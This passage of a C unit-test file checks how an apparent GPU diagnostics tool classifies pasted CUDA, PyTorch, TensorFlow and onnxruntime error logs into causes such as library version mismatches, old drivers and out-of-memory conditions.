				  " PhysicalDevice(name='/physical_device:XLA_GPU:0', device_type='XLA_GPU')]\n";
	static const char win[] = "  File \"C:\\Users\\ann\\venv\\lib\\site-packages\\keras\\x.py\", line 3\n";
	char log[1024];
	struct explain x;

	(void)state;
	run_text(&x, cpu_only);
	assert_int_equal(x.ncauses, 1);
	assert_string_equal(x.causes[0].id, "fw.no_gpu_at_runtime");
	assert_string_equal(x.causes[0].title, "TensorFlow sees no GPU (its device list names none)");
	explain_release(&x);
	expect_first("[name: \"/device:CPU:0\"\ndevice_type: \"CPU\"\nmemory_limit: 268435456\n]\n", "fw.no_gpu_at_runtime");
	run_text(&x, "[name: \"/device:CPU:0\"\ndevice_type: \"CPU\"\n, name: \"/device:GPU:0\"\n"
		     "device_type: \"GPU\"\n]\n");
	assert_int_equal(x.ncauses, 0);
	explain_release(&x);
	expect_first("Num GPUs Available:  0\n", "fw.no_gpu_at_runtime");
	run_text(&x, "Num GPUs Available:  1\n"
		     "[PhysicalDevice(name='/physical_device:GPU:0', device_type='GPU')]\n");
	assert_int_equal(x.ncauses, 0);
	explain_release(&x);

	run_text(&x, xla);
	assert_string_equal(x.causes[0].id, "lib.cuda_version_mismatch");
	assert_true(evidence_says(&x.causes[0], "line 2 lists an XLA_GPU device and no GPU device"));
	explain_release(&x);
	/* a library the log names is the cause, not the inference */
	snprintf(log, sizeof(log), "Could not load dynamic library 'libcudnn.so.7'; dlerror: libcudnn.so.7: "
				   "cannot open shared object file: No such file or directory\n%s", xla);
	run_text(&x, log);
	assert_string_equal(x.causes[0].id, "lib.cudnn_missing");
	assert_null(cause(&x, "lib.cuda_version_mismatch"));
	explain_release(&x);

	snprintf(log, sizeof(log), "%s%s", win, cpu_only);
	expect_first(log, "host.windows_native_tf_gpu");
	/* a release stated is the rule's to judge: 2.10 had Windows GPU builds */
	snprintf(log, sizeof(log), "%s>>> tf.__version__\n'2.10.1'\n%s", win, cpu_only);
	run_text(&x, log);
	assert_null(cause(&x, "host.windows_native_tf_gpu"));
	explain_release(&x);
	/* a GPU build that cannot load CUDA says so */
	snprintf(log, sizeof(log), "%sCould not load dynamic library 'cudart64_110.dll'; dlerror: "
				   "cudart64_110.dll not found\n%s", win, cpu_only);
	run_text(&x, log);
	assert_null(cause(&x, "host.windows_native_tf_gpu"));
	explain_release(&x);
}

/* nvcc's release against the driver's: newer than the driver runs is a
 * driver too old for what the toolkit builds; a newer minor of the same
 * major from CUDA 11 on is not. */
static void
toolkit_against_driver(void **state)
{
	struct explain x;
	const struct explain_cause *c;

	(void)state;
	run_text(&x, "| NVIDIA-SMI 384.111                Driver Version: 384.111                   |\n"
		     "Cuda compilation tools, release 9.1, V9.1.85\n");
	c = cause(&x, "driver.too_old");
	assert_non_null(c);
	assert_int_equal(c->severity, SEV_WARN);
	assert_true(evidence_says(c, "line 2: nvcc is CUDA 9.1"));
	assert_non_null(strstr(c->fix, "gpudoctor compat --cuda 9.1 "));
	assert_non_null(strstr(c->fix, "gpudoctor compat --driver 384.111 "));
	explain_release(&x);
	run_text(&x, smi_470);
	explain_release(&x);
	run_text(&x, "| NVIDIA-SMI 470.82.01    Driver Version: 470.82.01    CUDA Version: 11.4     |\n"
		     "Cuda compilation tools, release 11.8, V11.8.89\n");
	assert_null(cause(&x, "driver.too_old"));
	explain_release(&x);
	run_text(&x, "| NVIDIA-SMI 470.82.01    Driver Version: 470.82.01    CUDA Version: 11.4     |\n"
		     "Cuda compilation tools, release 12.1, V12.1.105\n");
	assert_non_null(cause(&x, "driver.too_old"));
	explain_release(&x);
	/* two toolkits in one paste: unknown */
	run_text(&x, "| NVIDIA-SMI 470.82.01    Driver Version: 470.82.01    CUDA Version: 11.4     |\n"
		     "Cuda compilation tools, release 12.1, V12.1.105\n"
		     "Cuda compilation tools, release 11.3, V11.3.109\n");
	assert_null(cause(&x, "driver.too_old"));
	explain_release(&x);
}

/* A CUDA library of one major missing where the log shows another CUDA
 * installed: the program was built for the other CUDA. Only libraries
 * whose file names carry CUDA's major count (cuFFT's do not). */
static void
library_of_another_cuda(void **state)
{
	static const char lt11[] = "Failed to load library libonnxruntime_providers_cuda.so with error: "
				   "libcublasLt.so.11: cannot open shared object file: No such file or directory\n";
	char log[1024];
	struct explain x;

	(void)state;
	snprintf(log, sizeof(log), "%sCuda compilation tools, release 12.1, V12.1.66\n", lt11);
	run_text(&x, log);
	assert_string_equal(x.causes[0].id, "lib.cuda_version_mismatch");
	assert_string_equal(x.causes[0].title, "The program needs CUDA 11's libcublasLt.so.11; the log shows "
					       "CUDA 12.1 (nvcc)");
	explain_release(&x);
	snprintf(log, sizeof(log), "%sCuda compilation tools, release 11.8, V11.8.89\n", lt11);
	expect_first(log, "lib.cuda_lib_missing");
	run_text(&x, "torch                    2.2.1+cu118\n"
		     "RuntimeError: Library cublas64_12.dll is not found or cannot be loaded\n");
	assert_non_null(cause(&x, "lib.cuda_version_mismatch"));
	explain_release(&x);
	/* Windows' two-digit names: cublas64_11.dll is CUDA 11, cudart64_65.dll 6.5 */
	run_text(&x, "torch                    2.2.1+cu121\n"
		     "RuntimeError: Library cublas64_11.dll is not found or cannot be loaded\n");
	assert_non_null(cause(&x, "lib.cuda_version_mismatch"));
	assert_non_null(strstr(cause(&x, "lib.cuda_version_mismatch")->title, "CUDA 11's cublas64_11.dll"));
	explain_release(&x);
	run_text(&x, "torch                    2.2.1+cu118\n"
		     "RuntimeError: Library cublas64_11.dll is not found or cannot be loaded\n");
	assert_null(cause(&x, "lib.cuda_version_mismatch"));
	explain_release(&x);
	/* cuFFT numbers its files apart from CUDA: libcufft.so.10 is CUDA 11's */
	run_text(&x, "Could not load dynamic library 'libcufft.so.10'; dlerror: libcufft.so.10: cannot open "
		     "shared object file: No such file or directory\n"
		     "Cuda compilation tools, release 11.2, V11.2.152\n");
	assert_null(cause(&x, "lib.cuda_version_mismatch"));
	explain_release(&x);
	/* nothing stated about the CUDA installed: the library is missing */
	expect_first(lt11, "lib.cuda_lib_missing");
	/* a toolkit directory, a runtime file listed, pip's runtime package
	 * state the CUDA installed too */
	snprintf(log, sizeof(log), "%sexport LD_LIBRARY_PATH=/usr/local/cuda-12.1/lib64:$LD_LIBRARY_PATH\n", lt11);
	run_text(&x, log);
	assert_string_equal(x.causes[0].id, "lib.cuda_version_mismatch");
	assert_string_equal(x.causes[0].title, "The program needs CUDA 11's libcublasLt.so.11; the log shows "
					       "CUDA 12 installed (/usr/local/cuda-12.1)");
	explain_release(&x);
	expect_first("ImportError: libcudart.so.11.0: cannot open shared object file: No such file or directory\n"
		     "/home/u/env/lib/python3.10/site-packages/nvidia/cuda_runtime/lib/libcudart.so.12\n",
		     "lib.cuda_version_mismatch");
	expect_first("Could not load dynamic library 'cudart64_110.dll'; dlerror: cudart64_110.dll not found\n"
		     "PATH=C:\\Program Files\\NVIDIA GPU Computing Toolkit\\CUDA\\v12.2\\bin;C:\\Windows\n",
		     "lib.cuda_version_mismatch");
	snprintf(log, sizeof(log), "%snvidia-cuda-runtime-cu12    12.1.105\n", lt11);
	expect_first(log, "lib.cuda_version_mismatch");
	/* TensorFlow names the search path on the line of the library it did not find */
	expect_first("W tensorflow/stream_executor/platform/default/dso_loader.cc:64] Could not load dynamic "
		     "library 'libcudart.so.11.0'; dlerror: libcudart.so.11.0: cannot open shared object file: "
		     "No such file or directory; LD_LIBRARY_PATH: /usr/local/cuda-10.1/lib64\n",
		     "lib.cuda_version_mismatch");
	/* the same major, two majors, or a runtime named only as missing: no statement */
	snprintf(log, sizeof(log), "%s/usr/local/cuda-11.8/lib64\n", lt11);
	expect_first(log, "lib.cuda_lib_missing");
	snprintf(log, sizeof(log), "%s/usr/local/cuda-11.8/lib64\n/usr/local/cuda-12.1/lib64\n", lt11);
	expect_first(log, "lib.cuda_lib_missing");
	snprintf(log, sizeof(log), "%sOSError: libcudart.so.12: cannot open shared object file\n", lt11);
	run_text(&x, log);
	assert_null(cause(&x, "lib.cuda_version_mismatch"));
	explain_release(&x);
	snprintf(log, sizeof(log), "%sERROR: No matching distribution found for nvidia-cuda-runtime-cu12\n", lt11);
	run_text(&x, log);
	assert_null(cause(&x, "lib.cuda_version_mismatch"));
	explain_release(&x);
}

/* The libraries the driver ships beside libcuda (video decode and encode,
 * NVML) are the driver's, whatever row names them: not a CUDA toolkit
 * library to install. */
static void
driver_libraries_are_the_drivers(void **state)
{
	(void)state;
	expect_first("[h264_cuvid @ 0x1ec8780] Cannot load libnvcuvid.so.1\n", "driver.libcuda_missing");
	expect_first("[h264_nvenc @ 0x55d0] Cannot load libnvidia-encode.so.1\n", "driver.libcuda_missing");
	expect_first("ImportError: libcublas.so.12: cannot open shared object file: No such file or directory\n",
		     "lib.cuda_lib_missing");
}

/* The code an IPython traceback quotes is no message: its comment "a
 * driver initialization error" is not CUDA's initialization error, while
 * the same words printed are; a CUDA_VISIBLE_DEVICES the code sets still
 * counts, and the listing ends at the first line of another kind. */
static void
ipython_listing_is_code(void **state)
{
	static const char *const frames =
		"<ipython-input-9-f0f348328a8d> in <module>()\n"
		"      8 images = np.stack(images)\n"
		"----> 9 images = torch.from_numpy(images).cuda()\n"
		"\n"
		"/usr/local/lib/python3.7/dist-packages/torch/cuda/__init__.py in _lazy_init()\n"
		"    168         # This function throws if there's a driver initialization error, no GPUs\n"
		"--> 170         torch._C._cuda_init()\n"
		"\n"
		"RuntimeError: No CUDA GPUs are available\n";
	struct explain x;

	(void)state;
	run_text(&x, frames);
	assert_int_equal(x.ncauses, 1);
	assert_string_equal(x.causes[0].id, "driver.no_visible_device");
	explain_release(&x);
	/* IPython 8's headings */
	run_text(&x, "File ~/venv/lib/python3.11/site-packages/torch/cuda/__init__.py:314, in _lazy_init()\n"
		     "    312 # driver initialization error\n"
		     "--> 314 torch._C._cuda_init()\n"
		     "Cell In[3], line 2\n"
		     "      1 # CUDA error: out of memory\n");
	assert_int_equal(x.ncauses, 0);
	explain_release(&x);
	/* the words outside a listing, and a numbered line with no heading */
	run_text(&x, "cuInit: initialization error\n");
	assert_int_equal(x.ncauses, 1);
	assert_string_equal(x.causes[0].id, "driver.init_failed");
	explain_release(&x);
	run_text(&x, "      3 cuInit: initialization error\n");
	assert_int_equal(x.ncauses, 1);
	explain_release(&x);
	/* the line after a listing is read again */
	run_text(&x, "/x/y.py in f()\n      3 pass\ncuInit: initialization error\n");
	assert_int_equal(x.ncauses, 1);
	assert_string_equal(x.causes[0].id, "driver.init_failed");
	explain_release(&x);
	/* what the quoted code sets still counts */
	run_text(&x, "<ipython-input-2-aa> in <module>()\n"
		     "----> 1 os.environ[\"CUDA_VISIBLE_DEVICES\"] = \"1\"\n");
	assert_int_equal(x.cvd_line, 2);
	explain_release(&x);
}

/* PyTorch's verdicts on a GPU asked of every official build (runs_on.h):
 * Pascal's 6.1 left out of a cu128 wheel runs the cu126 wheels' sm_60, so
 * the fix is that build, and where PyTorch says the GPU is not in this
 * build's list it is not too old; PyTorch's own "too old" stays, with the
 * build that carries code for it; a GPU no build has code for is too old. */
static void
torch_arch_verdicts_asked_of_every_build(void **state)
{
	struct explain x;

	(void)state;
	run_text(&x, "UserWarning:\n"
		     "Found GPU0 NVIDIA GeForce GTX 1070 Ti which is of cuda capability 6.1.\n"
		     "Minimum and Maximum cuda capability supported by this version of PyTorch is (7.0) - (12.0)\n"
		     "NVIDIA GeForce GTX 1070 Ti with CUDA capability sm_61 is not compatible with the current "
		     "PyTorch installation.\n");
	assert_int_equal(x.ncauses, 1);
	assert_string_equal(x.causes[0].id, "fw.arch_not_in_build");
	assert_non_null(strstr(x.causes[0].fix, "download.pytorch.org/whl/cu126"));
	assert_true(evidence_says(&x.causes[0], "sm_60"));
	explain_release(&x);
	run_text(&x, "Found GPU0 GeForce GTX 960M which is of cuda capability 5.0.\n"
		     "PyTorch no longer supports this GPU because it is too old.\n");
	assert_int_equal(x.ncauses, 1);
	assert_string_equal(x.causes[0].id, "hw.arch_too_old");
	assert_non_null(strstr(x.causes[0].fix, "download.pytorch.org/whl/cu126"));
	explain_release(&x);
	run_text(&x, "NVIDIA GeForce GTX 680 with CUDA capability sm_30 is not compatible with the current PyTorch "
		     "installation.\n");
	assert_int_equal(x.ncauses, 1);
	assert_string_equal(x.causes[0].id, "hw.arch_too_old");
	explain_release(&x);
}

/* A row that takes any library's name is told by the name: cuDNN's,
 * the runtime's and the driver's DLLs each give their own finding. */
static void
missing_library_told_by_its_name(void **state)
{
	static const struct {
		const char *line, *id;
	} cases[] = {
		{"I dso_loader.cc:119] Couldn't open CUDA library cudnn64_5.dll\n", "lib.cudnn_missing"},
		{"I dso_loader.cc:119] Couldn't open CUDA library cudart64_80.dll\n", "lib.cudart_missing"},
		{"I dso_loader.cc:119] Couldn't open CUDA library nvcuda.dll\n", "driver.libcuda_missing"},
		{"I dso_loader.cc:119] Couldn't open CUDA library cufft64_80.dll\n", "lib.cuda_lib_missing"},
		{"I dso_loader.cc:119] Couldn't open CUDA library libcudnn.so.5\n", "lib.cudnn_missing"},
	};
	struct explain x;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		run_text(&x, cases[i].line);
		assert_int_equal(x.ncauses, 1);
		assert_string_equal(x.causes[0].id, cases[i].id);
		explain_release(&x);
	}
}

/* TensorFlow's notice that it will JIT its kernels from PTX is a warning
 * about time; a CUDA error after it says the PTX did not run, so the build
 * does not serve the GPU. Alone, the notice stays a warning. */
static void
jit_notice_then_error_is_a_build_without_the_gpu(void **state)
{
	static const char *const notice =
		"W0000 00:00:1753232013.685876   24341 gpu_device.cc:2431] TensorFlow was not built with CUDA "
		"kernel binaries compatible with compute capability 12.0. CUDA kernels will be jit-compiled from "
		"PTX, which could take 30 minutes or longer.\n";
	char text[1024];
	struct explain x;

	(void)state;
	run_text(&x, notice);
	assert_int_equal(x.ncauses, 1);
	assert_string_equal(x.causes[0].id, "fw.arch_ptx_jit");
	explain_release(&x);
	snprintf(text, sizeof(text), "%s\nCUDA_ERROR_INVALID_HANDLE\n", notice);
	run_text(&x, text);
	assert_int_equal(x.ncauses, 1);
	assert_string_equal(x.causes[0].id, "fw.arch_not_in_build");
	assert_int_equal(x.causes[0].severity, SEV_ERROR);
	assert_null(strstr(x.causes[0].fix, "CUDA_CACHE_MAXSIZE"));
	explain_release(&x);
}

/* nvidia-smi's table pasted before an out-of-memory error, with that GPU
 * already nearly full, is memory another process holds; the same table
 * after the error (this job's own use) or a GPU half used says nothing. */
static void
smi_table_before_oom_is_another_holder(void **state)
{
	static const char *const table =
		"|   0  Tesla V100-SXM2...  On   | 00000000:00:08.0 Off |                    0 |\n"
		"| N/A   54C    P0   246W / 300W |  %sMiB / 16130MiB |    100%%      Default |\n"
		"|   1  Tesla V100-SXM2...  On   | 00000000:00:09.0 Off |                    0 |\n"
		"| N/A   38C    P0    39W / 300W |      0MiB / 16130MiB |      0%%      Default |\n";
	static const char *const oom = "RuntimeError: CUDA error: out of memory\n";
	char smi[1024], text[2048];
	struct explain x;

	(void)state;
	snprintf(smi, sizeof(smi), table, "15514");
	snprintf(text, sizeof(text), "%s%s", smi, oom);
	run_text(&x, text);
	assert_true(x.ncauses >= 1);
	assert_string_equal(x.causes[0].id, "mem.held_by_other_process");
	assert_true(evidence_says(&x.causes[0], "1 of the table's 2 GPUs are idle"));
	explain_release(&x);
	snprintf(text, sizeof(text), "%s%s", oom, smi);
	expect_first(text, "mem.oom");
	snprintf(smi, sizeof(smi), table, "8000");
	snprintf(text, sizeof(text), "%s%s", smi, oom);
	expect_first(text, "mem.oom");
}

/* An out-of-memory error on a GPU whose total memory the log states as
 * under 3.75 GiB is the card's size (hw.low_vram), as doctor says of such a
 * card: PyTorch's message (with PyTorch's "0 bytes" for an empty size) and
 * TensorFlow's device properties before the allocation failed. A bigger
 * card, memory other processes hold, or the properties after the error are
 * not. */
static void
oom_on_a_small_gpu_is_its_size(void **state)
{
	static const char *const v1 =
		"RuntimeError: CUDA out of memory. Tried to allocate 20.00 MiB (GPU 0; %s total capacity; "
		"%s already allocated; 0 bytes free; %s reserved in total by PyTorch)\n";
	static const char *const tf_props =
		"name: GeForce GT 1030 major: 6 minor: 1 memoryClockRate(GHz): 1.468\n"
		"totalMemory: 1.95GiB freeMemory: 1.60GiB\n";
	static const char *const tf_oom =
		"ResourceExhaustedError: OOM when allocating tensor with shape[64,256,56,56]\n";
	char text[1024];
	struct explain x;

	(void)state;
	snprintf(text, sizeof(text), v1, "2.00 GiB", "1.70 GiB", "1.75 GiB");
	run_text(&x, text);
	assert_true(x.ncauses >= 1);
	assert_string_equal(x.causes[0].id, "hw.low_vram");
	assert_non_null(strstr(x.causes[0].title, "only 2.00 GiB"));
	assert_true(evidence_says(&x.causes[0], "2.00 GiB total, 0 bytes free"));
	explain_release(&x);
	snprintf(text, sizeof(text), v1, "3.82 GiB", "3.50 GiB", "3.60 GiB");
	expect_first(text, "mem.oom");
	snprintf(text, sizeof(text), v1, "7.79 GiB", "7.20 GiB", "7.40 GiB");
	expect_first(text, "mem.oom");
	/* 2.1 and later: most of a small GPU held elsewhere is still the holder */
	expect_first("torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 20.00 MiB. GPU 0 has a "
		     "total capacity of 3.50 GiB of which 0 bytes is free. Including non-PyTorch memory, this "
		     "process has 1.10 GiB memory in use. Of the allocated memory 900.00 MiB is allocated by "
		     "PyTorch, and 20.00 MiB is reserved by PyTorch but unallocated.\n",
		     "mem.held_by_other_process");
	expect_first("torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 20.00 MiB. GPU 0 has a "
		     "total capacity of 3.50 GiB of which 512 bytes is free. Including non-PyTorch memory, this "
		     "process has 3.40 GiB memory in use. Of the allocated memory 900.00 MiB is allocated by "
		     "PyTorch, and 20.00 MiB is reserved by PyTorch but unallocated.\n",
		     "hw.low_vram");

	snprintf(text, sizeof(text), "%s%s", tf_props, tf_oom);
	run_text(&x, text);
	assert_true(x.ncauses >= 1);
	assert_string_equal(x.causes[0].id, "hw.low_vram");
	assert_non_null(strstr(x.causes[0].title, "only 1997 MiB"));
	assert_null(cause(&x, "mem.oom"));
	explain_release(&x);
	snprintf(text, sizeof(text), "%s%s", tf_oom, tf_props);
	expect_first(text, "mem.oom");
	expect_first("totalMemory: 7.92GiB freeMemory: 7.60GiB\n"
		     "ResourceExhaustedError: OOM when allocating tensor with shape[64,256,56,56]\n",
		     "mem.oom");
}

/* A listing or pip that states two distributions of one package is judged
 * by the doctor's rule; one of them, or one stated twice with two
 * versions, is not. */
static void
doubled_distributions_from_a_listing(void **state)
{
	struct explain x;

	(void)state;
	run_text(&x, "$ pip freeze | grep onnxruntime\nonnxruntime==1.22.0\nonnxruntime-gpu==1.22.0\n"
		     "$ python -c \"import onnxruntime; print(onnxruntime.get_device())\"\nCPU\n");
	assert_int_equal(x.stated.ndists, 2);
	assert_true(x.ncauses >= 1);
	assert_string_equal(x.causes[0].id, "fw.deprecated_gpu_package");
	assert_true(evidence_says(&x.causes[0], "line 3 states onnxruntime-gpu 1.22.0"));
	assert_non_null(strstr(x.causes[0].fix, "pip uninstall -y onnxruntime onnxruntime-gpu"));
	explain_release(&x);
	expect_first("Successfully installed onnxruntime-1.16.0 onnxruntime-gpu-1.16.0 protobuf-4.25.1\n",
		     "fw.deprecated_gpu_package");
	expect_first("paddlepaddle         2.5.2\npaddlepaddle-gpu     2.5.2.post117\n", "fw.deprecated_gpu_package");

	run_text(&x, "Successfully installed onnxruntime-gpu-1.22.0\n");
	assert_int_equal(x.stated.ndists, 1);
	assert_null(cause(&x, "fw.deprecated_gpu_package"));
	explain_release(&x);
	run_text(&x, "onnxruntime==1.16.0\nonnxruntime==1.22.0\nonnxruntime-gpu==1.22.0\n");
	assert_null(cause(&x, "fw.deprecated_gpu_package"));
	explain_release(&x);
	/* a longer name that ends like one is not it */
	run_text(&x, "my-onnxruntime==0.1\nonnxruntime-gpu==1.22.0\n");
	assert_int_equal(x.stated.ndists, 1);
	explain_release(&x);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(ipython_listing_is_code),
		cmocka_unit_test(smi_table_before_oom_is_another_holder),
		cmocka_unit_test(oom_on_a_small_gpu_is_its_size),
		cmocka_unit_test(doubled_distributions_from_a_listing),
		cmocka_unit_test(jit_notice_then_error_is_a_build_without_the_gpu),
		cmocka_unit_test(missing_library_told_by_its_name),
		cmocka_unit_test(torch_arch_verdicts_asked_of_every_build),
		cmocka_unit_test(driver_and_wheel_judged_by_the_rule),
		cmocka_unit_test(collect_env_cpu_build),
		cmocka_unit_test(conflicting_statements_are_unknown),
		cmocka_unit_test(statement_forms),
		cmocka_unit_test(gpu_and_build_judged_by_runs_on),
		cmocka_unit_test(merged_with_the_machine),
		cmocka_unit_test(codes_in_other_forms),
		cmocka_unit_test(cudnn_fix_from_the_knowledge_base),
		cmocka_unit_test(same_shape_lines),
		cmocka_unit_test(stated_build_code_judged_by_runs_on),
		cmocka_unit_test(macos_has_no_cuda),
		cmocka_unit_test(tensorflow_device_lists),
		cmocka_unit_test(toolkit_against_driver),
		cmocka_unit_test(library_of_another_cuda),
		cmocka_unit_test(driver_libraries_are_the_drivers),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
